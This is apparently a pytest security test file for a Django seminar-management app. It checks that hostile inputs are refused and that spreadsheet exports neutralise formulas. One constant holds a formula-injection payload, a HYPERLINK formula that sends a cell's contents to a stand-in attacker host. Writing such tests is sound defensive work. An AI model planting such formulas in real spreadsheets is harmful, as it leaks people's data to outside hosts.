"""What hostile people tried on tables, papers, evaluations, the code on the wall and a school's page."""

import io
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation

from darbigas_kopienas.activities import services as activities
from darbigas_kopienas.activities.models import Activity
from darbigas_kopienas.participation import services as participation
from darbigas_kopienas.participation.models import Attendance, Registration
from darbigas_kopienas.participation.registration import links
from darbigas_kopienas.people.models import User
from darbigas_kopienas.programme.models import Component, Programme
from darbigas_kopienas.programme.scoping import Scope
from darbigas_kopienas.values import clock, signed_tokens
from seminars.evaluation.links import evaluation_token
from seminars.models import Evaluation, EvaluationTicket, Seminar
from tests.builders import TODAY, after, come, held, implementer, issue, taking

pytestmark = pytest.mark.django_db
SignedIn = Callable[[Any], Client]
HUGE = 10**30
FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Anna")'


@pytest.fixture(autouse=True)
def _summer() -> Any:
    with clock.frozen(TODAY), translation.override("lv"):
        yield


@pytest.fixture
def seminar(ilze: User, in_daugavpils: Scope, components: dict[str, Component]) -> Seminar:
    return Seminar.objects.create(activity=taking(ilze, in_daugavpils, components["1"], capacity=50))


def calm(client: Client) -> Client:
    client.raise_request_exception = False
    return client


def table(*lines: str, name: str = "t.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, "\n".join(lines).encode(), content_type="text/csv")


# -- codes -----------------------------------------------------------------------------------------
def test_a_pass_in_other_digits_is_nobody_s(seminar: Seminar, as_: SignedIn, ilze: User) -> None:
    """`\\d` means every script's digits, and those cannot be compared in constant time."""
    (a,) = come(seminar.activity, "a")
    scan = reverse("participation:check_in_scan", args=[seminar.activity_id, seminar.activity.sessions.get().pk])
    wide = links.short_code(a).translate({ord("0") + digit: ord("０") + digit for digit in range(10)})
    for code in (wide, f"{HUGE}-ABCDE", "１２-ABCDE", "-", f"{a.pk}-AAAAA", "x" * 300):
        assert (code, calm(as_(ilze)).post(scan, {"code": code}).status_code) == (code, 422)
    assert not Attendance.objects.exists()


def test_numbers_longer_than_any_are_refused_where_something_is_chosen(
    seminar: Seminar, as_: SignedIn, ilze: User, programme: Programme
) -> None:
    of = [seminar.pk]
    for name, args, given in (
        ("seminars:engagement_add", of, {"trainer": HUGE}),
        ("seminars:seminar_repeat", of, {"weeks": "9" * 5000}),
        ("seminars:template_use", [], {"template": HUGE, "first_day": "01.07.2020"}),
        ("seminars:seminar_add", [], {"title_lv": "X", "training_programme": HUGE}),
        ("seminars:certificate_list", of, {"registrations": HUGE, "signatory": "X", "position_lv": "Y"}),
        ("participation:colleague_register", [seminar.activity_id], {"school": HUGE, "text": "A; a@example.lv"}),
        ("home:my_data", [], {"name": "Ilze", "language": "lv", "organisation": HUGE}),
        ("programme:school_contact_list", [], {"school": HUGE, "email": "ilze@example.lv"}),
    ):
        answer = calm(as_(ilze)).post(reverse(name, args=args), given)
        assert (name, answer.status_code) in {(name, 422), (name, 403)}
    for name in ("seminars:seminar_list", "seminars:seminar_feed", "seminars:certificate_register"):
        asked: dict[str, str | int] = {
            "place": HUGE,
            "audience": HUGE,
            "topic": "\x00" * 9,
            "page": HUGE,
            "month": "2020-13",
        }
        assert (name, calm(as_(ilze)).get(reverse(name), asked).status_code) == (name, 422)


# -- tables ----------------------------------------------------------------------------------------
def test_nothing_that_somebody_typed_runs_as_a_formula(
    seminar: Seminar, as_: SignedIn, ilze: User, programme: Programme
) -> None:
    implementer(programme)
    Activity.objects.update(title_lv=FORMULA)
    (a,) = come(seminar.activity, "a", school="@SUM(1)")
    Registration.objects.filter(pk=a.pk).update(name=FORMULA)
    session = seminar.activity.sessions.get()
    with after():
        participation.record_attendance(by=ilze, registration=a, session=session)
        issue(ilze, held(ilze, seminar))
    client = as_(ilze)
    for name, args in (
        ("participation:registration_export", [seminar.activity_id]),
        ("seminars:attendance_export", [seminar.pk]),
        ("seminars:seminar_export", []),
        ("seminars:certificate_export", []),
    ):
        address = reverse(name, args=args)
        text = client.get(address, {"format": "csv"}).getvalue().decode()
        assert "=HYPERLINK" in text, name
        assert text.count("'=HYPERLINK") == text.count("=HYPERLINK"), name
        content = client.get(address, {"format": "xlsx"}).getvalue()
        cells = [cell for row in openpyxl.load_workbook(io.BytesIO(content)).active for cell in row]
        formulas = [str(cell.value) for cell in cells if cell.data_type == "f"]
        assert [formula for formula in formulas if not formula.startswith("=SUBTOTAL(109,")] == [], name


def test_a_table_gives_nobody_more_hours_than_the_session_has(seminar: Seminar, as_: SignedIn, ilze: User) -> None:
    (a,) = come(seminar.activity, "a")
    address = reverse("seminars:attendance_import", args=[seminar.pk])
    for hours in ("36", "6,5", "1e1", "NaN", "Infinity", "-1"):
        sent = table("Vārds un uzvārds;E-pasts;Nodarbība;Akadēmiskās stundas", f"a;{a.email};18.06.2020;{hours}")
        answer = calm(as_(ilze)).post(address, {"table": sent})
        assert (hours, answer.status_code) == (hours, 422)
    assert not Attendance.objects.exists()


def test_a_table_reaches_no_session_that_was_cancelled(seminar: Seminar, as_: SignedIn, ilze: User) -> None:
    (a,) = come(seminar.activity, "a")
    day = clock.moment_on(TODAY + timedelta(days=10), clock.local(clock.now()).time())
    assert day is not None
    off = activities.add_session(by=ilze, activity=seminar.activity, starts_at=day, ends_at=day + timedelta(hours=2))
    type(off).objects.filter(pk=off.pk).update(state="cancelled")
    sent = table("E-pasts;Nodarbība;Akadēmiskās stundas", f"{a.email};{clock.local(day):%d.%m.%Y};")
    answer = calm(as_(ilze)).post(reverse("seminars:attendance_import", args=[seminar.pk]), {"table": sent})
    assert answer.status_code == 422
    assert not Attendance.objects.exists()


def test_a_sealed_table_is_written_by_nobody_else_and_nowhere_else(
    seminar: Seminar, as_: SignedIn, ilze: User, marta: User, in_daugavpils: Scope, components: dict[str, Component]
) -> None:
    (a,) = come(seminar.activity, "a")
    other = Seminar.objects.create(activity=taking(ilze, in_daugavpils, components["1"]))
    here, there = (reverse("seminars:attendance_import", args=[run.pk]) for run in (seminar, other))
    sent = table("E-pasts;Nodarbība;Akadēmiskās stundas", f"{a.email};18.06.2020;6")
    sealed = as_(ilze).post(here, {"table": sent}).context["sealed"]
    for who, address, what in (
        (marta, here, sealed),
        (ilze, there, sealed),
        (ilze, reverse("seminars:seminar_import"), sealed),
        (ilze, here, sealed[:-1]),
        (ilze, here, "x" * 40),
        (ilze, here, ""),
    ):
        answer = calm(as_(who)).post(address, {"sealed": what})
        assert (address, answer.status_code) == (address, 422)
    assert not Attendance.objects.exists()
    with after():
        assert as_(ilze).post(here, {"sealed": sealed}).status_code == 302
    assert Attendance.objects.get().registration == a


@pytest.mark.parametrize("line", [";" * 200_000, "a;" * 200_000, "a\n" * 200_000])
def test_a_table_as_wide_or_as_long_as_can_be_is_refused_quickly(
    seminar: Seminar, as_: SignedIn, ilze: User, line: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from darbigas_kopienas.values import formats

    folded, asked = formats.folded, []

    def counted(text: str) -> str:
        asked.append(1)
        return folded(text)

    monkeypatch.setattr(formats, "folded", counted)
    address = reverse("seminars:attendance_import", args=[seminar.pk])
    sent = table("E-pasts;Nodarbība", line)
    assert calm(as_(ilze)).post(address, {"table": sent}).status_code == 422
    assert len(asked) < 5000


# -- papers ----------------------------------------------------------------------------------------
def test_the_check_page_tells_no_name_that_its_holder_hides(
    seminar: Seminar, as_: SignedIn, ilze: User, programme: Programme
) -> None:
    implementer(programme)
    (a,) = come(seminar.activity, "Zenta", school="Slepenā skola")
    with after():
        participation.record_attendance(by=ilze, registration=a, session=seminar.activity.sessions.get())
        (certificate,) = issue(ilze, held(ilze, seminar))
        page = Client().get(reverse("seminars:certificate_check", args=[certificate.code])).content.decode()
    assert certificate.number in page
    for secret in ("Zenta", "zenta", "Slepenā", a.email, signed_tokens.token(links.PLACE, a.pk)):
        assert secret not in page


def test_guessing_codes_stops_whatever_the_guesser_changes(db: None, monkeypatch: pytest.MonkeyPatch) -> None:
    from seminars.certificates.views import check

    monkeypatch.setattr(check, "TRIES_ALLOWED", 3)
    answers = []
    for guess in range(5):
        with translation.override("en" if guess % 2 else "lv"):
            address = reverse("seminars:certificate_check", args=[f"{guess:026d}"])
        client = Client(headers={"X-Forwarded-For": f"1.1.1.{guess}", "User-Agent": str(guess)})
        answers.append(client.get(address).status_code)
    assert answers == [404, 404, 404, 429, 429]


# -- the wall --------------------------------------------------------------------------------------
def test_the_code_on_the_wall_says_no_more_than_whether_one_is_let_in(seminar: Seminar, ilze: User) -> None:
    """An address in another list, one that waits, and one that nobody has are answered alike."""
    session = seminar.activity.sessions.get()
    (a,) = come(seminar.activity, "a")
    participation.cancel_registration(by=ilze, registration=a)
    code = participation.hang_wall_code(by=ilze, session=session).code
    with clock.frozen(session.starts_at):
        address = reverse("participation:check_in", args=[code])
        pages = [Client().post(address, {"email": email}) for email in (a.email, "nobody@example.lv")]
        assert [page.status_code for page in pages] == [422, 422]
        words = [page.content.decode().replace(email, "").split("<main")[1] for page, email in
                 zip(pages, (a.email, "nobody@example.lv"), strict=True)]  # fmt: skip
        assert len({word.split("csrfmiddlewaretoken")[0] for word in words}) == 1
        assert Client(enforce_csrf_checks=True).post(address, {"email": a.email}).status_code == 403
        for email in ("", "\x00", "a" * 300 + "@example.lv", "%@example.lv", "_@example.lv"):
            assert (email, calm(Client()).post(address, {"email": email}).status_code) == (email, 422)
    assert not Attendance.objects.exists()


def test_checking_in_with_another_s_address_gives_none_of_their_links(seminar: Seminar, ilze: User) -> None:
    session = seminar.activity.sessions.get()
    (a,) = come(seminar.activity, "a")
    code = participation.hang_wall_code(by=ilze, session=session).code
    with clock.frozen(session.starts_at):
        page = Client().post(reverse("participation:check_in", args=[code]), {"email": a.email}, follow=True)
    text = page.content.decode()
    assert page.status_code == 200
    assert "@" not in text.split("<main")[1].split("</main")[0]
    assert signed_tokens.token(links.PLACE, a.pk) not in text


# -- evaluating ------------------------------------------------------------------------------------
def test_an_evaluation_takes_no_other_link_and_no_other_mark(seminar: Seminar) -> None:
    (a,) = come(seminar.activity, "a")
    ticket = EvaluationTicket.objects.create(registration=a)
    token = evaluation_token(ticket)
    client = calm(Client())
    for wrong in (
        signed_tokens.token(links.PLACE, ticket.pk),
        signed_tokens.token(links.MAILED, ticket.pk),
        str(ticket.pk),
        token[:-1],
    ):
        assert client.get(reverse("seminars:evaluation_give", args=[wrong])).status_code == 404
    address = reverse("seminars:evaluation_give", args=[token])
    for given in ({"content": 6}, {"content": 0}, {"content": HUGE}, {"content": "x"}, {"will_use": "a" * 2001},
                  {"to_improve": "\x00"}, {}):  # fmt: skip
        assert (given, client.post(address, given).status_code) == (given, 422)
    assert not Evaluation.objects.exists()
    assert client.post(address, {"content": 5}).status_code == 302
    assert client.post(address, {"content": 1}).status_code == 422
    assert Evaluation.objects.get().content == 5
